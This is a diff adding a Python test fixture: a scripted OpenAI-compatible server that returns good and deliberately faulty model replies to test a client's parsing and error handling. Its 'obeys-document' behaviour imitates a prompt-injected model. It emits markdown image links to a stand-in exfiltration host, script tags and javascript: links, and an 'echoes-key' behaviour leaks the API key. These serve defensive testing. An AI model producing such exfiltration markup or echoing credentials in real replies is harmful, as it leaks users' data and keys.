@@ -1,0 +1,657 @@
+"""A scripted OpenAI-compatible server on a real socket: the only thing in the tests that stands in for a model.
+
+In a test: `with ScriptedLLM("wrong-quote") as server:` and point OPENAI_BASE_URL at `server.base_url`. By hand:
+`python -m tests.scripted_llm --port 8123 --behaviour good`. A request whose model is the name of a behaviour gets
+that behaviour, any other request the server's own; given a list, the server takes the next one for each request.
+"""
+
+import argparse
+import html
+import json
+import re
+import socket
+import threading
+import time
+from collections.abc import Callable, Iterator, Sequence
+from dataclasses import dataclass
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import Any, ClassVar, Self
+
+Json = dict[str, Any]
+
+CANDIDATE = re.compile(r"<candidate\b[^>]*?\bid=\"([^\"]*)\"[^>]*>(.*?)</candidate>", re.DOTALL)
+SNIPPET = re.compile(r"<(?:snippet|lines|text)\b[^>]*>(.*?)</(?:snippet|lines|text)>", re.DOTALL)
+EXCERPT = re.compile(r"<excerpt\b[^>]*?\bnumber=\"(\d+)\"[^>]*>(.*?)</excerpt>", re.DOTALL)
+QUESTION = re.compile(r"<question>(.*?)</question>", re.DOTALL)
+LINE_NUMBER = re.compile(r"^\s*(?:\[?L?\d+\]?\s*[:|]\s?)?")
+FACT = re.compile(r"^\s*[A-Za-z][A-Za-z _-]{2,30}:\s")  # "methods: keywords, titles" is about the candidate
+COMMON = set(
+    re.findall(r"\w+", "the and for was what which how does did with from that this are were has have its use used")
+)
+URL = "https://collector.example/?stolen="
+
+
+# ---- what the model of the script thinks
+
+
+def words_of(text: str) -> set[str]:
+    """The words that carry meaning, roughly."""
+    return {word for word in re.findall(r"\w+", text.lower()) if len(word) > 2} - COMMON
+
+
+def lines_of(candidate: str) -> list[str]:
+    """The document's own lines in one candidate's block, without the facts about the candidate."""
+    snippet = SNIPPET.search(candidate)
+    lines = (snippet.group(1) if snippet else candidate).splitlines()
+    lines = [line for line in lines if snippet or not FACT.match(line)]
+    return [text for line in lines if (text := LINE_NUMBER.sub("", html.unescape(line)).strip())]
+
+
+@dataclass(frozen=True)
+class Prompt:
+    """What a request asks, as far as the script understands it."""
+
+    question: str
+    candidates: list[tuple[str, list[str]]]
+    excerpts: list[tuple[int, str]]
+    schema: Json | None
+
+    @classmethod
+    def read(cls, body: Json) -> "Prompt":
+        """Out of the body of either API."""
+        parts = [body.get("instructions"), body.get("input"), *(m.get("content") for m in body.get("messages", []))]
+        text = "\n".join(part if isinstance(part, str) else json.dumps(part) for part in parts if part)
+        formats = (body.get("text", {}).get("format"), body.get("response_format", {}).get("json_schema"))
+        return cls(
+            question=html.unescape(" ".join(QUESTION.findall(text)[-1:])).strip(),
+            candidates=[(html.unescape(id_), lines_of(block)) for id_, block in CANDIDATE.findall(text)],
+            excerpts=[(int(number), html.unescape(block).strip()) for number, block in EXCERPT.findall(text)],
+            schema=next((form["schema"] for form in formats if form and "schema" in form), None),
+        )
+
+
+def judge(prompt: Prompt) -> Json:
+    """Verdicts by the number of the question's words in a snippet: the best is primary, close ones support it."""
+    asked = words_of(prompt.question)
+    scores = [len(asked & words_of(" ".join(lines))) for _, lines in prompt.candidates]
+    best = max(scores, default=0)
+    verdicts: list[Json] = []
+    for (candidate_id, lines), score in zip(prompt.candidates, scores, strict=True):
+        is_first = score == best and all(verdict["role"] != "primary" for verdict in verdicts)
+        role = "primary" if is_first else "supporting" if score >= 0.75 * best else "tangential"
+        role = role if score else "discarded"
+        anchor = max(lines, key=lambda line: len(asked & words_of(line)), default="")
+        verdicts.append(
+            {
+                "candidate_id": candidate_id,
+                "role": role,
+                "reason": f"{score} of {len(asked)} words of the question stand here.",
+                "content_anchor": anchor if role in ("primary", "supporting") else "",
+            }
+        )
+    reason = "The words of the question stand in the document." if best else "No candidate speaks of the question."
+    return {"answerable": best > 0, "answerable_reason": reason, "verdicts": verdicts, "contradictions": []}
+
+
+def answer(prompt: Prompt) -> str:
+    """A sentence for each of the first two excerpts, each with its marker."""
+    asked = words_of(prompt.question)
+    sentences = []
+    for number, text in prompt.excerpts[:2]:
+        line = max(text.splitlines() or [""], key=lambda line: len(asked & words_of(line)))
+        sentences.append(f"The document says: {LINE_NUMBER.sub('', line).strip()} [{number}].")
+    return " ".join(sentences) or "The scripted model was given no excerpts."
+
+
+def least_instance(schema: Json, root: Json) -> Any:
+    """The smallest value that follows a JSON schema, for prompts the script does not know."""
+    if "$ref" in schema:
+        return least_instance(root["$defs"][schema["$ref"].rsplit("/", 1)[-1]], root)
+    if "enum" in schema:
+        return schema["enum"][0]
+    if "anyOf" in schema:
+        return least_instance(schema["anyOf"][-1], root)
+    if schema.get("type") == "object":
+        return {name: least_instance(part, root) for name, part in schema.get("properties", {}).items()}
+    return {"array": [], "string": "", "integer": 0, "number": 0, "boolean": False}.get(schema.get("type", ""))
+
+
+def good_text(prompt: Prompt) -> str:
+    """What a well-behaved model replies to this prompt."""
+    if prompt.candidates:
+        return json.dumps(judge(prompt), ensure_ascii=False)
+    if prompt.excerpts or prompt.schema is None:
+        return answer(prompt)
+    return json.dumps(least_instance(prompt.schema, prompt.schema))
+
+
+# ---- replies that are wrong in one way each: a change of the verdicts, or of the text
+
+
+def with_unknown_ids(reply: Json) -> None:
+    invented = {"role": "primary", "reason": "Invented.", "content_anchor": "This stands nowhere."}
+    reply["verdicts"] += [{"candidate_id": "zz-999", **invented}, {"candidate_id": "", **invented}]
+
+
+def with_missing_ids(reply: Json) -> None:
+    reply["verdicts"] = reply["verdicts"][::2]
+
+
+def with_duplicate_ids(reply: Json) -> None:
+    first = reply["verdicts"][0]
+    reply["verdicts"].append(first | {"role": "discarded", "reason": "Second thoughts."})
+
+
+def with_altered_ids(reply: Json) -> None:
+    for verdict in reply["verdicts"]:
+        verdict["candidate_id"] = f"[ {verdict['candidate_id'].upper()} ]"
+
+
+def with_unknown_role(reply: Json) -> None:
+    reply["verdicts"][0]["role"] = "crucial"
+
+
+def with_long_reasons(reply: Json) -> None:
+    for verdict in reply["verdicts"]:
+        verdict["reason"] = "<b>because</b> " * 700
+
+
+def with_empty_ranking(reply: Json) -> None:
+    reply["verdicts"] = []
+
+
+def with_wrong_quotes(reply: Json) -> None:
+    for verdict in reply["verdicts"]:
+        words = verdict["content_anchor"].split(" ")
+        if len(words) > 1:
+            verdict["content_anchor"] = " ".join(
+                [*words[: -(-len(words) * 2 // 3)], "as was later restated by management"]
+            )
+
+
+def with_invented_quotes(reply: Json) -> None:
+    for verdict in reply["verdicts"]:
+        if verdict["content_anchor"]:
+            verdict["content_anchor"] = "Management expects the contrary of all of this to hold."
+
+
+def with_obedience(reply: Json) -> None:
+    with_unknown_ids(reply)
+    with_invented_quotes(reply)
+    for verdict in reply["verdicts"]:
+        verdict |= {
+            "role": "primary",
+            "reason": f"![x]({URL}reason) <script>alert(1)</script> [go](javascript:alert(1))",
+        }
+    reply["answerable_reason"] = f"<img src='{URL}answerable'>"
+    reply["contradictions"] = [{"candidate_ids": ["zz-999", "yy-1"], "point": f"![x]({URL}point)"}]
+
+
+def obedient_answer(text: str) -> str:
+    return f"{text} [7] ![x]({URL}secret) <script>alert(1)</script> [go](javascript:alert(1)) \x1b[31mred\x1b[0m"
+
+
+VERDICTS: dict[str, Callable[[Json], None]] = {
+    "unknown-ids": with_unknown_ids,
+    "missing-ids": with_missing_ids,
+    "duplicate-ids": with_duplicate_ids,
+    "altered-ids": with_altered_ids,
+    "unknown-role": with_unknown_role,
+    "long-reasons": with_long_reasons,
+    "empty-ranking": with_empty_ranking,
+    "wrong-quote": with_wrong_quotes,
+    "invented-quote": with_invented_quotes,
+    "obeys-document": with_obedience,
+}
+TEXTS: dict[str, Callable[[str], str]] = {
+    "malformed": lambda text: text.replace('"', "'").replace(":", " =", 1),
+    "cut": lambda text: text[: len(text) // 2],
+    "fenced": lambda text: f"Here is the reply:\n```json\n{text}\n```\nI hope this helps.",
+    "reasoning": lambda text: f"<think>\nLet me look at {{this}} first.\n</think>\n\n{text}",
+    "two-objects": lambda text: f'{text}\n{{"answerable": false}}',
+    "wrong-schema": lambda text: '{"colour": "blue", "verdicts": "all fine"}',
+    "prose": lambda text: "I am sorry, but I would rather talk about the weather.",
+    "nul": lambda text: re.sub(r"(?<=\w) (?=\w)", " \x00", text),
+    "bad-markers": lambda text: re.sub(r"\[\d+\]", "[99]", text),
+    "no-markers": lambda text: re.sub(r" ?\[\d+\]", "", text),
+    "empty": lambda text: "",
+}
+
+
+def text_for(behaviour: str, prompt: Prompt) -> str:
+    """The model's text under a behaviour."""
+    text = good_text(prompt)
+    if behaviour in VERDICTS and prompt.candidates:
+        reply = json.loads(text)
+        VERDICTS[behaviour](reply)
+        return json.dumps(reply, ensure_ascii=False)
+    if behaviour == "obeys-document":
+        return obedient_answer(text)
+    return TEXTS[behaviour](text) if behaviour in TEXTS else text
+
+
+# ---- the two APIs
+
+
+@dataclass(frozen=True)
+class Said:
+    """What the model says and how it ends."""
+
+    text: str
+    finish: str = "stop"  # stop, length, content_filter
+    refusal: str = ""
+
+    @classmethod
+    def under(cls, behaviour: str, prompt: Prompt) -> "Said":
+        """By the name of a behaviour."""
+        if behaviour == "refusing":
+            return cls("", refusal="I cannot help with that.")
+        finish = {"cut": "length", "content-filter": "content_filter"}.get(behaviour, "stop")
+        return cls(text_for(behaviour, prompt), finish)
+
+    def pieces(self) -> list[str]:
+        """The text as tokens come, roughly a word each."""
+        return re.findall(r"\s*\S+|\s+$", self.text)
+
+
+def response_of(said: Said, model: str, *, status: str = "") -> Json:
+    """The body of POST /v1/responses."""
+    incomplete = {"length": "max_output_tokens", "content_filter": "content_filter"}.get(said.finish)
+    content: Json = {"type": "output_text", "text": said.text, "annotations": []}
+    if said.refusal:
+        content = {"type": "refusal", "refusal": said.refusal}
+    message = {"type": "message", "id": "msg_1", "role": "assistant", "status": "completed", "content": [content]}
+    reasoning = {"type": "reasoning", "id": "rs_1", "summary": []}
+    return {
+        "id": "resp_scripted",
+        "object": "response",
+        "created_at": 1_790_000_000,
+        "status": status or ("incomplete" if incomplete else "completed"),
+        "incomplete_details": {"reason": incomplete} if incomplete else None,
+        "error": None,
+        "model": f"{model}-2026-11-01",
+        "output": [] if status == "in_progress" else [reasoning, message],
+        "usage": {
+            "input_tokens": 1200,
+            "input_tokens_details": {"cached_tokens": 1024},
+            "output_tokens": len(said.pieces()),
+            "output_tokens_details": {"reasoning_tokens": 0},
+            "total_tokens": 1200 + len(said.pieces()),
+        },
+    }
+
+
+def response_events(said: Said, model: str) -> Iterator[Json]:
+    """The events of a streamed response, in the order the real server sends them."""
+    place = {"item_id": "msg_1", "output_index": 1, "content_index": 0}
+    done = response_of(said, model)
+    yield {"type": "response.created", "response": response_of(said, model, status="in_progress")}
+    yield {"type": "response.in_progress", "response": response_of(said, model, status="in_progress")}
+    yield {"type": "response.output_item.added", "output_index": 1, "item": {"type": "message", "id": "msg_1"}}
+    yield {"type": "response.content_part.added", **place, "part": {"type": "output_text", "text": ""}}
+    for piece in said.pieces():
+        yield {"type": "response.output_text.delta", **place, "delta": piece}
+    if said.refusal:
+        yield {"type": "response.refusal.delta", **place, "delta": said.refusal}
+        yield {"type": "response.refusal.done", **place, "refusal": said.refusal}
+    yield {"type": "response.output_text.done", **place, "text": said.text}
+    yield {"type": "response.content_part.done", **place, "part": done["output"][1]["content"][0]}
+    yield {"type": "response.output_item.done", "output_index": 1, "item": done["output"][1]}
+    yield {"type": f"response.{done['status']}", "response": done}
+
+
+def completion_of(said: Said, model: str) -> Json:
+    """The body of POST /v1/chat/completions."""
+    message = {"role": "assistant", "content": None if said.refusal else said.text, "refusal": said.refusal or None}
+    return {
+        "id": "chatcmpl-scripted",
+        "object": "chat.completion",
+        "created": 1_790_000_000,
+        "model": f"{model}-2026-11-01",
+        "choices": [{"index": 0, "message": message, "finish_reason": said.finish, "logprobs": None}],
+        "usage": chat_usage(said),
+    }
+
+
+def chat_usage(said: Said) -> Json:
+    count = len(said.pieces())
+    return {
+        "prompt_tokens": 1200,
+        "completion_tokens": count,
+        "total_tokens": 1200 + count,
+        "prompt_tokens_details": {"cached_tokens": 1024},
+    }
+
+
+def completion_events(said: Said, model: str, with_usage: bool) -> Iterator[Json]:
+    """The chunks of a streamed completion; the usage comes last, in a chunk without choices."""
+    base = {"id": "chatcmpl-scripted", "object": "chat.completion.chunk", "model": f"{model}-2026-11-01"}
+    yield base | {"choices": [{"index": 0, "delta": {"role": "assistant", "content": ""}, "finish_reason": None}]}
+    for piece in said.pieces():
+        yield base | {"choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}]}
+    if said.refusal:
+        yield base | {"choices": [{"index": 0, "delta": {"refusal": said.refusal}, "finish_reason": None}]}
+    yield base | {"choices": [{"index": 0, "delta": {}, "finish_reason": said.finish}]}
+    if with_usage:
+        yield base | {"choices": [], "usage": chat_usage(said)}
+
+
+# ---- servers that lack something: the error a real one gives, or None
+
+
+def error_body(message: str, param: str | None = None, code: str | None = None) -> Json:
+    return {"error": {"message": message, "type": "invalid_request_error", "param": param, "code": code}}
+
+
+def refusal_of(behaviour: str, path: str, body: Json) -> tuple[int, Json] | None:
+    """The error with which a limited server meets this request."""
+    form = body.get("response_format", {}).get("type")
+    limited = ("no-responses-api", "chat-json-mode-only", "text-only", "no-stream-options")
+    if behaviour in limited and path == "/v1/responses":
+        return 404, {"detail": "Not Found"}
+    if behaviour == "responses-without-schema" and path == "/v1/responses" and "text" in body:
+        return 400, error_body("Unsupported parameter: 'text.format'.", "text.format")
+    if behaviour == "chat-json-mode-only" and form == "json_schema":
+        return 400, error_body(
+            "Invalid value: 'json_schema'. Supported values are: 'text' and 'json_object'.", "response_format.type"
+        )
+    if behaviour == "text-only" and form:
+        return 400, error_body("response_format is not supported by this server.", "response_format")
+    if behaviour == "no-temperature" and "temperature" in body:
+        return 400, error_body("Unsupported parameter: 'temperature' is not supported with this model.", "temperature")
+    if behaviour == "no-store" and "store" in body:
+        return 422, error_body("body.store: Extra inputs are not permitted")
+    if behaviour == "no-stream-options" and "stream_options" in body:
+        return 400, error_body("Unknown parameter: 'stream_options'.", "stream_options")
+    return ERRORS.get(behaviour)
+
+
+ERRORS: dict[str, tuple[int, Json]] = {
+    "error-500": (500, error_body("The server had an error while processing your request.")),
+    "overloaded": (503, error_body("The engine is currently overloaded.")),
+    "rate-limited": (429, error_body("Rate limit reached for requests.", code="rate_limit_exceeded")),
+    "rate-limited-long": (429, error_body("Rate limit reached for requests.", code="rate_limit_exceeded")),
+    "no-quota": (429, error_body("You exceeded your current quota.", code="insufficient_quota")),
+    "unauthorized": (401, error_body("Incorrect API key provided: sk-te**-key.", code="invalid_api_key")),
+    "no-such-model": (404, error_body("The model does not exist.", code="model_not_found")),
+    "bad-request": (400, error_body("Invalid 'input': it is not to our liking.", "input")),
+    "too-long": (
+        400,
+        error_body("This model's maximum context length is 8192 tokens.", code="context_length_exceeded"),
+    ),
+    "redirect": (307, {}),
+}
+RETRY_AFTER_S = {"rate-limited": "1", "rate-limited-long": "600"}
+ON_THE_WIRE = (
+    "good",
+    "slow",
+    "drip",
+    "drip-headers",
+    "hang",
+    "stream-cut",
+    "body-cut",
+    "stream-error",
+    "html",
+    "huge",
+    "garbage",
+    "compressed",
+)
+SAID = ("refusing", "content-filter", "failed-response", "echoes-key")
+LIMITED = (
+    "no-responses-api",
+    "responses-without-schema",
+    "chat-json-mode-only",
+    "text-only",
+    "no-temperature",
+    "no-store",
+    "no-stream-options",
+)
+BEHAVIOURS = tuple(dict.fromkeys((*ON_THE_WIRE, *SAID, *LIMITED, *ERRORS, *VERDICTS, *TEXTS)))
+
+
+# ---- the server
+
+
+@dataclass(frozen=True)
+class Recorded:
+    """One request as it came in."""
+
+    path: str
+    headers: dict[str, str]
+    body: Json
+    behaviour: str
+
+
+class ScriptedLLM:
+    """The server, in a thread; `requests` holds what it was sent. Change `behaviour` at any time."""
+
+    def __init__(self, behaviour: str | Sequence[str] = "good", *, port: int = 0, pace_s: float = 0.0) -> None:
+        self._script = [behaviour] if isinstance(behaviour, str) else list(behaviour)
+        unknown = set(self._script) - set(BEHAVIOURS)
+        if unknown:
+            raise ValueError(f"Unknown behaviour {sorted(unknown)}; there are: {', '.join(BEHAVIOURS)}")
+        self.pace_s = pace_s  # between the pieces of a stream; "slow" and "drip" bring their own
+        self.requests: list[Recorded] = []
+        self.models_status = 200
+        self.ended = threading.Event()
+        self._lock = threading.Lock()
+        handler = type("ScriptedHandler", (_Handler,), {"script": self})
+        self._server = _Server(("127.0.0.1", port), handler)
+        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.02,), daemon=True)
+
+    @property
+    def base_url(self) -> str:
+        return f"http://127.0.0.1:{self._server.server_address[1]}/v1"
+
+    @property
+    def behaviour(self) -> str:
+        """What the next request meets."""
+        return self._script[0]
+
+    @behaviour.setter
+    def behaviour(self, behaviour: str) -> None:
+        self._script = [behaviour]
+
+    @property
+    def paths(self) -> list[str]:
+        """The paths asked for, in order."""
+        return [request.path for request in self.requests]
+
+    def take(self, path: str, headers: dict[str, str], body: Json) -> str:
+        """Record a request and say which behaviour it meets."""
+        with self._lock:
+            scripted = self._script.pop(0) if len(self._script) > 1 else self._script[0]
+            behaviour = body["model"] if body.get("model") in BEHAVIOURS else scripted
+            self.requests.append(Recorded(path, headers, body, behaviour))
+            return behaviour
+
+    def start(self) -> None:
+        self._thread.start()
+
+    def stop(self) -> None:
+        self.ended.set()
+        self._server.shutdown()
+        self._server.server_close()
+
+    def __enter__(self) -> Self:
+        self.start()
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        self.stop()
+
+
+class _Server(ThreadingHTTPServer):
+    daemon_threads = True
+    block_on_close = False
+    request_queue_size = 128
+
+    def handle_error(self, request: Any, client_address: Any) -> None:
+        """Clients that go away are part of the script."""
+
+
+class _Handler(BaseHTTPRequestHandler):
+    script: ClassVar[ScriptedLLM]
+    protocol_version = "HTTP/1.1"
+    disable_nagle_algorithm = True
+
+    def log_message(self, format: str, *args: Any) -> None:
+        pass
+
+    def do_GET(self) -> None:
+        if self.path != "/v1/models":
+            return self._send_json(404, error_body("Unknown request URL."))
+        model = {"id": "good", "object": "model", "created": 1_790_000_000, "owned_by": "script"}
+        if self.script.behaviour == "hang":
+            return self.act_hang()
+        self._send_json(self.script.models_status, {"object": "list", "data": [model]})
+
+    def do_POST(self) -> None:
+        body = json.loads(self.rfile.read(int(self.headers.get("content-length", 0))))
+        behaviour = self.script.take(self.path, {key.lower(): value for key, value in self.headers.items()}, body)
+        if self.path not in ("/v1/responses", "/v1/chat/completions"):
+            return self._send_json(404, error_body("Unknown request URL."))
+        if refusal := refusal_of(behaviour, self.path, body):
+            return self._send_json(*refusal, behaviour=behaviour)
+        wrong = getattr(self, f"act_{behaviour.replace('-', '_')}", None)
+        if wrong is not None:
+            return wrong()  # type: ignore[no-any-return]
+        said = Said.under(behaviour, Prompt.read(body))
+        if behaviour == "echoes-key":
+            said = Said(f'{{"note": "{self.headers["authorization"]}"')
+        if body.get("stream"):
+            return self._stream(behaviour, said, body)
+        reply = response_of(said, body["model"]) if self.path == "/v1/responses" else completion_of(said, body["model"])
+        if behaviour == "failed-response":
+            reply |= {"status": "failed", "output": [], "error": {"code": "server_error", "message": "It broke."}}
+        self._send_body(behaviour, json.dumps(reply).encode())
+
+    # ---- sending
+
+    def _send_json(self, status: int, body: Json, behaviour: str = "") -> None:
+        extra = {"Retry-After": RETRY_AFTER_S[behaviour]} if behaviour in RETRY_AFTER_S else {}
+        if behaviour == "redirect":
+            extra = {"Location": f"{self.script.base_url}/elsewhere"}
+        self._send(status, json.dumps(body).encode(), extra)
+
+    def _send(self, status: int, body: bytes, extra: dict[str, str] | None = None) -> None:
+        self.send_response(status)
+        for name, value in {
+            "Content-Type": "application/json",
+            "Content-Length": str(len(body)),
+            **(extra or {}),
+        }.items():
+            self.send_header(name, value)
+        self.end_headers()
+        self.wfile.write(body)
+
+    def _send_body(self, behaviour: str, body: bytes) -> None:
+        if behaviour == "slow":
+            self._wait(self.script.pace_s or 1.0)
+        if behaviour == "body-cut":
+            self.send_response(200)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body[: len(body) // 2])
+            return self._cut()
+        if behaviour != "drip":
+            return self._send(200, body)
+        self.send_response(200)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self._drip(body)
+
+    def _stream(self, behaviour: str, said: Said, body: Json) -> None:
+        self.send_response(200)
+        self.send_header("Content-Type", "text/event-stream")
+        self.send_header("Transfer-Encoding", "chunked")
+        self.end_headers()
+        for index, event in enumerate(self._events(said, body)):
+            if behaviour == "stream-cut" and index == 8:
+                return self._cut()
+            if behaviour == "stream-error" and index == 8:
+                event = {"error": {"message": "The model crashed.", "code": "server_error"}}
+            if behaviour == "failed-response" and index == 8:
+                event = {"type": "response.failed", "response": {"status": "failed", "error": {"message": "It broke."}}}
+            self._send_event(event, behaviour)
+            self._wait(self.script.pace_s or (0.2 if behaviour == "slow" else 0.0))
+        if self.path == "/v1/chat/completions":
+            self._chunk(b"data: [DONE]\n\n")
+        self._chunk(b"")
+
+    def _events(self, said: Said, body: Json) -> Iterator[Json]:
+        if self.path == "/v1/responses":
+            events = response_events(said, body["model"])
+            return (event | {"sequence_number": number} for number, event in enumerate(events))
+        return completion_events(said, body["model"], bool(body.get("stream_options", {}).get("include_usage")))
+
+    def _send_event(self, event: Json, behaviour: str) -> None:
+        name = f"event: {event['type']}\n" if "type" in event else ""
+        text = f"{name}data: {json.dumps(event)}\n\n".encode()
+        if behaviour != "drip":
+            return self._chunk(text)
+        for offset in range(len(text)):
+            self._chunk(text[offset : offset + 1])
+            self._wait(self.script.pace_s or 0.1)
+
+    def _chunk(self, piece: bytes) -> None:
+        self.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
+
+    def _drip(self, body: bytes) -> None:
+        for offset in range(len(body)):
+            self.wfile.write(body[offset : offset + 1])
+            self._wait(self.script.pace_s or 0.1)
+
+    def _wait(self, seconds: float) -> None:
+        if seconds and self.script.ended.wait(seconds):
+            raise ConnectionAbortedError
+
+    def _cut(self) -> None:
+        self.connection.shutdown(socket.SHUT_RDWR)
+        self.close_connection = True
+
+    # ---- servers that do not speak the protocol, by the name of their behaviour
+
+    def act_hang(self) -> None:
+        self.script.ended.wait()
+
+    def act_drip_headers(self) -> None:
+        self._drip(b"HTTP/1.1 200 OK\r\n" + b"".join(b"X-%d: yes\r\n" % number for number in range(1000)))
+
+    def act_html(self) -> None:
+        self._send(200, b"<html><body>Please log in to the network first.</body></html>", {"Content-Type": "text/html"})
+
+    def act_garbage(self) -> None:
+        self._send(200, b'{"output": 5, "choices": [' + b"[" * 100_000)
+
+    def act_compressed(self) -> None:
+        self._send(200, b"\x1f\x8b" + b"0" * 100, {"Content-Encoding": "gzip"})
+
+    def act_huge(self) -> None:
+        self.send_response(200)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(10**9))
+        self.end_headers()
+        for _ in range(10**9 // 2**20):
+            self.wfile.write(b" " * 2**20)
+
+
+def main() -> None:
+    """Serve until interrupted."""
+    parser = argparse.ArgumentParser(description="A scripted OpenAI-compatible model server.")
+    parser.add_argument("--port", type=int, default=8123)
+    parser.add_argument("--behaviour", default="good", choices=BEHAVIOURS)
+    parser.add_argument("--pace", type=float, default=0.0, help="seconds between the pieces of a stream")
+    options = parser.parse_args()
+    with ScriptedLLM(options.behaviour, port=options.port, pace_s=options.pace) as server:
+        print(f"{server.base_url} behaves: {options.behaviour}", flush=True)
+        try:
+            while True:
+                time.sleep(3600)
+        except KeyboardInterrupt:
+            pass
+
+
+if __name__ == "__main__":
+    main()
